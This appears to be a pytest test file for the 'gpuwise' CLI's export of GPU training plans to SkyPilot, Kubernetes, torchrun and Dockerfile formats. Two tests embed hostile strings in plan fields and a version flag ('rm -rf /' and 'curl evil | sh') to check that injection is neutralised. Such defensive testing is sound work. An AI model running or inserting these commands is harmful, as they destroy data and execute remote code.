"""`gpuwise export` and `plan --export` end to end: files, stdin, bad input (exit 2, nothing written)."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from export_helpers import load_yaml, option, plan_doc

from gpuwise.cli.main import main

PLANS = Path(__file__).resolve().parents[1] / "fixtures" / "plan"
LORA = str(PLANS / "llama3-8b-lora.toml")
TIGHT = str(PLANS / "tight-budget.toml")  # no offer meets its budget


@pytest.fixture
def plan_file(tmp_path: Path) -> Path:
    path = tmp_path / "plan.json"
    doc = plan_doc(option(), option("A100-80GB", 8, 2, pricing="spot", provider="lambda", region="us-east-1"))
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def test_export_from_a_plan_file_to_out(
    plan_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "task.yaml"
    args = ["export", "skypilot", "--plan", str(plan_file), "--pick", "2", "--out", str(out)]
    assert main([*args, "--", "train.py", "--lr", "3e-4"]) == 0
    assert capsys.readouterr().out == ""
    task = load_yaml(out.read_text(encoding="utf-8"))
    assert task["name"] == "llama-ft"
    assert task["num_nodes"] == 2
    assert task["resources"]["accelerators"] == "A100-80GB:8"
    assert task["resources"]["disk_size"] == 140  # the plan's 100 GB boot disk + the 40 GB dataset
    assert "train.py --lr 3e-4" in task["run"]


def test_export_reads_the_plan_from_stdin(
    plan_file: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(plan_file.read_text(encoding="utf-8")))
    assert main(["export", "k8s", "--plan", "-", "--image", "reg/img:2"]) == 0
    doc = load_yaml(capsys.readouterr().out)
    assert doc["kind"] == "Job"
    assert doc["spec"]["template"]["spec"]["containers"][0]["image"] == "reg/img:2"


def test_export_from_flags_and_a_workload(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "torchrun", "--gpu", "H100:16", "--workload", LORA]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("torchrun")]
    assert len(lines) == 2 and "--node-rank=1" in lines[1]
    assert "--rdzv-id=llama3-8b-lora" in lines[0]


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--pick", "3"], "The plan has no option 3: it holds options 1 to 2"),
        (["--pick", "0"], "--pick must be 1 or more"),
        (["--gpu", "H100:8"], "--plan and --gpu exclude each other"),
        (["--spot"], "describe machines without a plan"),
    ],
)
def test_bad_input_exits_2_with_the_fix_and_writes_nothing(
    plan_file: Path, tmp_path: Path, args: list[str], words: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.yaml"
    code = main(["export", "skypilot", "--plan", str(plan_file), "--out", str(out), *args])
    err = capsys.readouterr().err
    assert code == 2
    assert words in err and "To fix:" in err
    assert "Traceback" not in err
    assert not out.exists()


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["export", "skypilt", "--gpu", "H100"], "Did you mean 'skypilot'?"),
        (["export", "k8s"], "Nothing to export"),
        (["export", "k8s", "--pick", "2", "--gpu", "H100"], "--pick needs --plan"),
        (["export", "k8s", "--plan", "/no/such/plan.json"], "/no/such/plan.json"),
        (
            ["export", "dockerfile", "--gpu", "B200:8", "--driver", "535.54.03"],
            "upgrade the driver to >= 570",
        ),
    ],
)
def test_other_bad_input(args: list[str], words: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(args) == 2
    err = capsys.readouterr().err
    assert words in err and "To fix:" in err


def test_plan_export_writes_what_export_writes_for_the_same_option(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["plan", LORA, "--json"]) == 0
    plan = tmp_path / "plan.json"
    plan.write_text(capsys.readouterr().out, encoding="utf-8")
    assert main(["export", "skypilot", "--plan", str(plan), "--pick", "2"]) == 0
    via_export = capsys.readouterr().out
    out = tmp_path / "task.yaml"
    assert main(["plan", LORA, "--pick", "2", "--export", "skypilot", "--out", str(out)]) == 0
    assert out.read_text(encoding="utf-8") == via_export
    assert main(["plan", LORA, "--pick", "99", "--export", "k8s"]) == 2
    assert "has no option 99" in capsys.readouterr().err
    assert main(["plan", LORA, "--export", "k8s", "--json"]) == 2
    assert main(["plan", LORA, "--out", str(out)]) == 2
    assert main(["plan", LORA, "--export", "k8s", "--html", str(tmp_path / "p.html")]) == 2
    assert "--html would be skipped" in capsys.readouterr().err


def test_plan_export_with_nothing_qualifying_exits_1_like_plan(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["plan", TIGHT, "--export", "skypilot"]) == 1
    captured = capsys.readouterr()
    assert "resources:" not in captured.out


@pytest.mark.parametrize("kind", ["skypilot", "k8s", "torchrun", "dockerfile"])
def test_text_from_the_plan_file_cannot_escape_its_comment(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The option's instance type and region are written into the header comment; a line break in them
    must not start a line of YAML, shell or Dockerfile."""
    plan = tmp_path / "plan.json"
    hostile = option(instance_type="a3\nrun: rm -rf /\n", region="us\r\nRUN curl evil | sh")
    plan.write_text(json.dumps(plan_doc(hostile)), encoding="utf-8")
    assert main(["export", kind, "--plan", str(plan)]) == 0
    out = capsys.readouterr().out
    assert "rm -rf" in out  # kept, as text inside a comment or a quoted value
    for line in out.splitlines():
        assert not line.lstrip().startswith(("run: rm", "RUN curl")), line


def test_a_torch_version_is_only_a_version(capsys: pytest.CaptureFixture[str]) -> None:
    args = ["export", "dockerfile", "--gpu", "H100:8", "--torch", '2.5.1" && curl evil | sh && echo "']
    assert main(args) == 2
    assert "not a PyTorch version" in capsys.readouterr().err


def test_k8s_without_image_warns_that_its_image_is_a_placeholder(
    plan_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The Job would apply, and its pods would then fail to pull an image no registry serves."""
    out = tmp_path / "job.yaml"
    assert main(["export", "k8s", "--plan", str(plan_file), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder" in err and "--image" in err
    assert "ghcr.io/OWNER/IMAGE:TAG is a placeholder that no registry serves" in out.read_text(
        encoding="utf-8"
    )
    image = "ghcr.io/me/ft:1"
    assert main(["export", "k8s", "--plan", str(plan_file), "--image", image, "--out", str(out)]) == 0
    assert "placeholder" not in capsys.readouterr().err + out.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", ["skypilot", "k8s", "torchrun", "dockerfile"])
def test_a_plan_for_serving_is_refused_with_the_machine_to_use(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every kind writes a training job (torchrun under gpuwise run): a serving plan would start the wrong
    program, and on SkyPilot the idle stopper would stop the server. Exit 2, nothing written."""
    doc = plan_doc(option())
    doc["workload"] = {"name": "llama-serve", "task": "inference", "data": {"dataset_gb": 0}}
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(doc), encoding="utf-8")
    out = tmp_path / "out.txt"
    assert main(["export", kind, "--plan", str(plan), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "Option 1 of the plan serves llama-serve, and gpuwise export writes training jobs" in err
    assert "8× H100" in err and "Traceback" not in err
    assert not out.exists()
